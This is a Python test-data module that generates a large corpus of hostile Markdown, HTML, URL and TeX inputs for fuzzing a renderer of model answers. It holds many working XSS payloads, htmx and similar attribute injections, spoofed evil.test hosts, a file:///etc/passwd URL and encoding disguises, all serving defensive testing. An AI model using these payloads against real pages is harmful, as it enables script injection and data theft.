"""Markdown that attacks the page around its answer: payloads, and the places for each.

The law: everything is combined from parts here, in the same order each time. A payload that
succeeds calls ``hit(1)``, sends a request to FOREIGN or to /secret, or changes the element OUTSIDE.
"""

import random
from collections.abc import Callable, Iterator
from typing import Final
from urllib.parse import quote

FOREIGN: Final = "evil.test"
OUTSIDE: Final = "outside"
IMAGES: Final = "img.example"
"""The only host that images may come from, if they may be shown."""

HTML: Final = (
    # Elements that run or load something by themselves.
    "<script>hit(1)</script>", "<ScRiPt/x>hit(1)</sCrIpT >",
    "<script src=//evil.test/s></script>", "<img src=x: onerror=hit(1)>",
    "<img src=x: onerror=alert(1)>", "<img/src=x:/onerror=hit(1)//", "<img src=//evil.test/i>",
    "<image href=//evil.test/i>", "<svg onload=hit(1)>", "<svg><script>hit(1)</script></svg>",
    "<svg><use href=//evil.test/u#x /></svg>", "<svg><animate onbegin=hit(1) attributeName=x>",
    "<iframe src=javascript:parent.hit(1)>", "<iframe srcdoc='<script>parent.hit(1)</script>'>",
    "<math><mtext><style><img src=x: onerror=hit(1)></style></math>",
    "<math href=javascript:hit(1)>",
    "<style>@import '//evil.test/c';#outside{display:none}</style>", "<body onload=hit(1)>",
    "<p style='background:url(//evil.test/b)'>x</p>", "<link rel=stylesheet href=//evil.test/l>",
    "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test/m'>",
    "<object data=//evil.test/o>", "<embed src=//evil.test/e>",
    "<audio src=//evil.test/a autoplay>", "<video><source src=x: onerror=hit(1)></video>",
    "<details open ontoggle=hit(1)>x</details>",
    "<form action=//evil.test/f><input autofocus onfocus=hit(1)></form>",
    "<marquee onstart=hit(1)>", "<b onfocus=hit(1) tabindex=1 autofocus>x</b>",
    "<noscript><p title='</noscript><img src=x: onerror=hit(1)>'></noscript>",
    "<a href='javascript:hit(1)'>x</a>",
    # What a library on the page would obey.
    "<b hx-get=/secret hx-trigger=load>x</b>",
    "<b data-hx-get=/secret data-hx-trigger=load>x</b>",
    "<b hx-on::load=hit(1) hx-on:click=hit(1)>x</b>", "<p hx-swap-oob=innerHTML:#outside>x</p>",
    "<p id=outside hx-swap-oob=true>x</p>", "<p data-hx-swap-oob=outerHTML:#outside>x</p>",
    "<hx-partial hx-target=#outside hx-swap=innerHTML>x</hx-partial>",
    "<template hx type=partial hx-target=#outside>x</template>",
    "<b data-on-load=hit(1) data-init=hit(1) data-effect=hit(1)>x</b>",
    "<b data-star-ignore>x</b>", "<b x-data x-init=hit(1) @click=hit(1)>x</b>",
    "<turbo-frame src=//evil.test/t></turbo-frame>",
    "<turbo-stream action=replace target=outside><template>x</template></turbo-stream>",
    "<form data-stream='#outside' action=/secret><button autofocus>x</button></form>",
    # What the parser or the page would stumble over.
    "<template><b>x</b></template>", "<template for=outside>x</template>",
    "<?start name=outside?>", "<?marker name=outside?>", "<!--><img src=x: onerror=hit(1)>-->",
    "<!doctype html>", "<![CDATA[><img src=x: onerror=hit(1)>]]>",
    "<!T4k9 append #outside>x<!T4k9>", "<!-- x --!>",
    "</div></div></span></p><p id=outside>x</p>", "</code></pre><script>hit(1)</script>",
    "</title></textarea></style></script><img src=x: onerror=hit(1)>", "<plaintext>", "<xmp>",
    "</td></tr></table><img src=x: onerror=hit(1)>", "</a></h1></li></ul><svg onload=hit(1)>",
    "<p id=outside name=outside class=streamhtml-notice role=alert>x</p>", "<select><option>x",
    "<table><tr><td>", "<frameset onload=hit(1)>", "<slot>", "<dialog open>x</dialog>",
    "< img src=x:>",
    # The elements that a model may write, with more than their names.
    "<br onload=hit(1)>", "<br/onload=hit(1)/>", "<sub onfocus=hit(1) tabindex=1 autofocus>x</sub>",
    "<sup/onload=hit(1)>x</sup>", "<kbd\nid=outside>x</kbd>", "<sub><script>hit(1)</script></sub>",
    "<kbd></p><img src=x: onerror=hit(1)></kbd>", "<sub><sup></sub><svg onload=hit(1)></sup>",
)  # fmt: skip

ENTITIES: Final = (
    "&#0;", "&#x0;", "&#1;", "&#8;", "&#11;", "&#12;", "&#13;", "&#x1b;", "&#x7f;", "&#x85;",
    "&#xa0;", "&NewLine;", "&Tab;", "&#10;", "&#32;", "&#xd800;", "&#xdc00;&#xd800;", "&#xd83d;",
    "&#x202a;", "&#x202e;", "&#8238;", "&#x2066;x&#x2069;", "&#xe0041;", "&#xe007f;", "&#xfeff;",
    "&#x1f3f4;&#xe0067;&#xe007f;", "&#x110000;", "&#xffff;", "&#9999999;", "&#xffffff;",
    "&#x200b;", "&lt;script&gt;hit(1)&lt;/script&gt;", "&#60;svg onload=hit(1)&#62;", "&#x3c;!--",
    "&lt;&sol;p&gt;", "&quot;", "&apos;", "&#34;", "&#39;", "&grave;", "&amp;lt;b&amp;gt;",
    "&amp;#60;b&gt;", "&bsol;", "&lbrack;x&rbrack;&lpar;javascript:hit(1)&rpar;", "&ast;",
    "&vert;", "&#124;", "&num; x", "\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f",
    "\x85", "\ud800", "\udc00\ud800", "\u202e", "\u202ax\u202c", "\u2066x\u2069",
    "\U000e0041\U000e0042", "\U0001f3f4\U000e0067", "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u2028", "\u2029", "\ufeff", "\r", "\ufffe",
)  # fmt: skip

#: § is where the payload stands.
PLACES: Final = (
    # Text, and what text stands in.
    "§", "a § b", "a§b", "*§*", "**a §**", "~~§~~", "_§", "\\§", "# §", "\xa7\n===", "> §", "- §",
    "7. §", "- [ ] §", "- a\n\n  \xa7", "a\n\xa7\nb", "\xa7\n\n\xa7", "    §", "> - # §",
    "\xa7  \n\xa7", "&amp;§", "***§***",
    # Tags.
    "<sub>§</sub>", "*<kbd>**§</kbd>*", '<b c="§" d>', "<br§>", "<sub§>x</sub>",
    # Code and formulas.
    "`§`", "`` § ``", "`§", "```\xa7\nx\n```", "``` \xa7\nx\n```", "~~~ x \xa7\nx\n~~~",
    "```html\n\xa7\n```", "```\n\xa7", "$§$", "$x_1 § $", "$$§$$", "$$\n\xa7\n$$", "\\(§\\)",
    "\\[\n\xa7\n\\]", "`$§$`",
    # Links and images.
    "[§](/u)", "[a](§)", "[a](<§>)", '[a](/u "§")', "[a](/u '§')", "[a](/u (§))", "[a](§ '§')",
    "[§", "![§](/u)", "![§](https://img.example/i)", "![a](§)", "![a](<https://img.example/§>)",
    "[a][§]", '![a](https://img.example/i "§")', "[![§](/u)](/v)",
    "![*§*](https://img.example/i)", "<§>", "![§", "[a]\n\n[a]: \xa7", "[a]\n\n[a]: <\xa7>",
    '[a]\n\n[a]: /u "\xa7"', "[\xa7]\n\n[\xa7]: /u", "![\xa7]\n\n[\xa7]: /u '\xa7'",
    "<https://a.b/§>", "https://a.b/§", "https://§", "www.§", "www.a.b/§", "<a§@b.c>", "a@b.c§",
    "mailto:§@b.c", "https://a.b/가§가",
    "§@b.c",
    # Tables, alerts, footnotes.
    "| \xa7 | b |\n|---|---|\n| c | \xa7 |", "| a |\n|:-\xa7|\n| b |", "| a |\n|---|\n\xa7",
    "a | \xa7\n-|-\n\xa7 | b", "| `\xa7` | \\| |\n|:-:|-:|\n| [a](\xa7 '\xa7') | *\xa7* |",
    "| a |\n| - |\n| \xa7 | \xa7 | \xa7 |", "> [!\xa7]\n> x", "> [!NOTE] \xa7\n> x",
    "> [!NOTE\xa7]\n> x", "> [!WARNING]\n> \xa7", "a[^\xa7]\n\n[^\xa7]: x", "a[^1]\n\n[^1]: \xa7",
    "[^\xa7]: x\n\na[^\xa7]", "[^1]: - \xa7\n\na[^1] b[^1]", "a[^§]", "1§. x", "-§",
    "[\xa7]: /u '\xa7'\n[b]: \xa7",
)  # fmt: skip

LINKS: Final = (
    "[a](§)", "[a](<§>)", "[a](§ 't')", "![a](§)", "![a](<§>)", "<§>", "[a]\n\n[a]: \xa7",
    "[§](§)", "[a]\n\n[a]: <\xa7>", "[![a](§)](§)", "a § b", "| [a](\xa7) |\n|-|",
    "a[^1]\n\n[^1]: [a](\xa7)", "[a]( § )",
)  # fmt: skip

URLS: Final = (
    "javascript:hit(1)", "javascript://a.b/%0ahit(1)", "vbscript:hit(1)",
    "data:text/html,<b>hit(1)</b>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,%3Csvg/onload=hit(1)%3E", "file:///etc/passwd",
    "blob:https://evil.test/1", "filesystem:https://evil.test/x", "view-source:/", "about:blank",
    "ftp://evil.test/x", "ws://evil.test/", "intent://x#Intent;end", "x-y.z+1:hit(1)", "sms:1",
)  # fmt: skip

HOSTS: Final = (
    "//evil.test/x", "/\\evil.test/x", "\\\\evil.test\\x", "///evil.test", "https:evil.test/x",
    "/\t/evil.test", "https:/\\evil.test", "https://img.example@evil.test/i",
    "https://img.example\\@evil.test/i", "//img.example/i", "https://img.example%2eevil.test/i",
    "https://img.example%40evil.test/i", "https://img.example.evil.test/i",
    "https://evil.test/https://img.example/i", "https://evil.test#@img.example/i",
    "https://img.example:8/i", "https://evil.test?@img.example/i", "https://ımg.example/i",
    "https://img。example/i", "https://img.example./i", "https://IMG.EXAMPLE/i",
    "https://img.example:@evil.test/i", "https://[img.example]/i", "https://img.example",
    "https://evil.test%5c@img.example/i", "http://img.example&#9;.evil.test/i",
    "https://img.example&#47;@evil.test",
)  # fmt: skip

QUOTES: Final = (
    '"', "'", "`", "&quot;", "&#34;", "&#x22;", "&#39;", "&apos;", '\\"', "\\'", "“", "''", '""',
    "'\"`", "%22", "&amp;quot;", "&quot", '"&Tab;', "'&NewLine;", '\n"', " ", "=", "\\", ")", ">",
)  # fmt: skip
BREAKOUTS: Final = (
    " onerror=hit(1) x=", " onmouseover=hit(1) style=position:fixed;inset:0 ",
    "onfocus=hit(1) autofocus x=", "><img src=x: onerror=hit(1)>", "/><script>hit(1)</script>",
    " id=outside class=streamhtml ", " src=//evil.test/i ", " hx-get=/secret hx-trigger=load ",
    " hx-swap-oob=innerHTML:#outside ", " srcdoc=<svg/onload=parent.hit(1)> ",
)  # fmt: skip
ATTRIBUTES: Final = (
    '[a](/u "§")', "[a](/u '§')", "[a](/u (§))", "[a](/u§)", "[a](<u§>)",
    "![a§](https://img.example/i)", "![a§](/u)", "![a](https://img.example/§)",
    '![a](https://img.example/i "§")', "```a\xa7\nx\n```", "~~~ a\xa7\nx\n~~~", "1§. x",
    "<https://a.b/§>", "https://a.b/§", "<a§@b.c>", "a[^x\xa7]\n\n[^x\xa7]: y",
    "[a]\n\n[a]: /u '\xa7'", "> [!NOTE\xa7]\n> x", "| a |\n|:-\xa7|\n| b |", "# a§", "$a§$",
    "![a\xa7][b]\n\n[b]: https://img.example/\xa7 '\xa7'", "- [x§] b", "www.a.b/§",
)  # fmt: skip

#: § is where the payload stands, in TeX.
TEX: Final = (
    r"§", r"\text{§}", r"\text{a} § x^2", r"\href{§}{x}", r"\url{§}", r"\class{§}{x}",
    r"\cssId{§}{x}", r"\htmlData{§}{x}", r"\htmlStyle{§}{x}", r"\style{§}{x}", r"\html{§}",
    r"\unicode{§}", r"\eqref{§}", r"\label{§}x", r"\begin{align}x\label{§}\end{align}",
    r"\begin{align}x\tag{§}\end{align}", r"\includegraphics{§}", r"\color{§}x",
    r"\textcolor{§}{x}", r"\operatorname{§}", r"\mathrm{§}", r"\def\a{§}\a", r"\let\a§",
    r"\newcommand{\a}{§\a}\a", r"\begin{§}x\end{§}", r"\begin{array}{§}x\end{array}",
    r"\hspace{§}", r"\raisebox{§}{x}", r"\textbf{\text{§}}", r"\verb|§|",
)  # fmt: skip
FORMULAS: Final = (
    "a $§$",
    "$$§$$",
    "a $$§$$ b",
    "\\[ x = § \\]",
    "a \\(§\\)",
    "$$\n\xa7\n$$",
    "- $`§`$",
)

LANGUAGES: Final = (
    "html", "xml", "php", "jinja", "js", "css", "json", "python", "bash", "sql", "c", "markdown",
    "diff", "console",
)  # fmt: skip
#: § is where the payload stands, in code.
CODE: Final = ("§", '"§"', "'''§'''", "/* § */", "# §", "// §", "<!-- § -->", "$ §", "a\n\xa7\n")


def code() -> Iterator[str]:
    """Every tag, in code that a lexer splits into spans."""
    for number, payload in enumerate((*HTML, *BREAKOUTS)):
        for place in CODE:
            language = LANGUAGES[number % len(LANGUAGES)]
            yield f"```{language}\n{place.replace('§', payload)}\n```"


def formulas() -> Iterator[str]:
    """Every tag, and what TeX may hide it in, in every formula."""
    for number, payload in enumerate((*HTML, *URLS, *BREAKOUTS)):
        for place in TEX:
            formula = FORMULAS[number % len(FORMULAS)]
            yield formula.replace("§", place.replace("§", payload))


def html() -> Iterator[str]:
    """Every tag in every place, as it is and disguised."""
    choose = random.Random(1)
    for payload in HTML:
        for place in PLACES:
            yield place.replace("§", payload)
            yield place.replace("§", choose.choice(_DISGUISES)(payload))


def urls() -> Iterator[str]:
    """Every scheme in every disguise, and every host that is not what it seems, in each link."""
    for place in LINKS:
        for url in URLS:
            for mangle in _MANGLES:
                yield place.replace("§", mangle(url))
        for url in HOSTS:
            yield place.replace("§", url)


def breakouts() -> Iterator[str]:
    """Every end of an attribute and what may follow it, in every text that becomes an attribute."""
    for place in ATTRIBUTES:
        for end in QUOTES:
            for rest in BREAKOUTS:
                yield place.replace("§", end + rest)


def entities() -> Iterator[str]:
    """Every character that has no business in an answer, and every entity, in every place."""
    for payload in ENTITIES:
        for place in PLACES:
            yield place.replace("§", payload)


FAMILIES: Final[dict[str, Callable[[], Iterator[str]]]] = {
    "html": html,
    "urls": urls,
    "breakouts": breakouts,
    "entities": entities,
    "formulas": formulas,
    "code": code,
}


def _numeric(text: str) -> str:
    return "".join(f"&#x{ord(character):x};" for character in text)


def _shouted(text: str) -> str:
    return "".join(c.upper() if at % 2 else c.lower() for at, c in enumerate(text))


def _inside(what: str) -> Callable[[str], str]:
    """Put something behind the fourth character: into the name of a scheme or tag."""
    return lambda text: text[:4] + what + text[4:]


def _before(what: str) -> Callable[[str], str]:
    return lambda text: what + text


def _colon(what: str) -> Callable[[str], str]:
    return lambda url: url.replace(":", what, 1)


_DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    _numeric,
    str.upper,
    _inside("\n"),
    _inside("\x00"),
    _inside("\u202e"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "\\<"),
    lambda text: text.replace("<", "\\\\<"),
    lambda text: text.replace("<", "<<").replace(">", ">>"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace(" ", "\t").replace("=", " = "),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "/").replace(">", "/>"),
    lambda text: text.replace("=", '="').replace(">", '">'),
    quote,
    lambda text: f"<!--{text}-->",
    lambda text: f"</p>\n\n{text}\n\n<p>",
    lambda text: f"`{text}",
    lambda text: f"**{text}*",
)

_MANGLES: Final[tuple[Callable[[str], str], ...]] = (
    str,
    str.upper,
    _shouted,
    _numeric,
    lambda url: _numeric(url[0]) + url[1:],
    lambda url: f"%{ord(url[0]):x}{url[1:]}",
    *map(_before, (" ", "&#32;", "&Tab;", "&NewLine;", "&#1;", "\x01", "&nbsp;", "\u200b")),
    *map(_before, ("\ufeff", "\x1f", "&#x202e;", "http:", "//", "x:")),
    *map(_inside, ("\t", "\n", "&Tab;", "&NewLine;", "&#13;", "&#0;", "\x00", "\\\n", "\u200d")),
    *map(_inside, ("\xad", "\u202e", "&#x202e;", "&shy;", "\\", "%09", "/", "?", "#", "&#xe0041;")),
    *map(_colon, ("&colon;", "&#58;", "&#x3A;", "\\:", "%3a", "：", "&Tab;:", "\t:", ":&NewLine;")),
    _colon("&#0058"),
    lambda url: url.replace("s", "ſ").replace("k", "\u212a"),
    lambda url: url.replace("/", "\\"),
    lambda url: f"<{url}>",
)
